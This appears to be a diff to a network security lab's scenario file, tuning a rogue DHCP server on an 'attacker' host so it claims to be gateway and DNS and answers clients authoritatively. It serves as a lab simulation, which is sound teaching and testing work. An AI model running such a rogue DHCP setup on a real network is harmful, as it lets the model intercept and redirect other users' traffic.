@@ -211,7 +211,7 @@ export const SCENARIOS: Record<string, Scenario> = {
       await lab.run("client", "busybox udhcpc -i eth0 -f -q -n -t 4 -T 1 -s /bin/true", 20_000);
       lab.daemon("attacker", ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--port=0", "--interface=eth0", "--bind-interfaces",
         `--dhcp-range=${LAN}.200,${LAN}.250,255.255.255.0,1h`, `--dhcp-option=3,${HOSTS.attacker.ip}`, `--dhcp-option=6,${HOSTS.attacker.ip}`,
-        `--dhcp-leasefile=${lab.work}/rogue.leases`, `--pid-file=${lab.work}/rogue.pid`]);
+        `--dhcp-leasefile=${lab.work}/rogue.leases`, `--pid-file=${lab.work}/rogue.pid`, "--no-ping", "--dhcp-authoritative"]);
       await Bun.sleep(1500);
       for (let i = 0; i < 2; i++) await lab.run("client", "busybox udhcpc -i eth0 -f -q -n -t 4 -T 1 -s /bin/true", 20_000);
     },
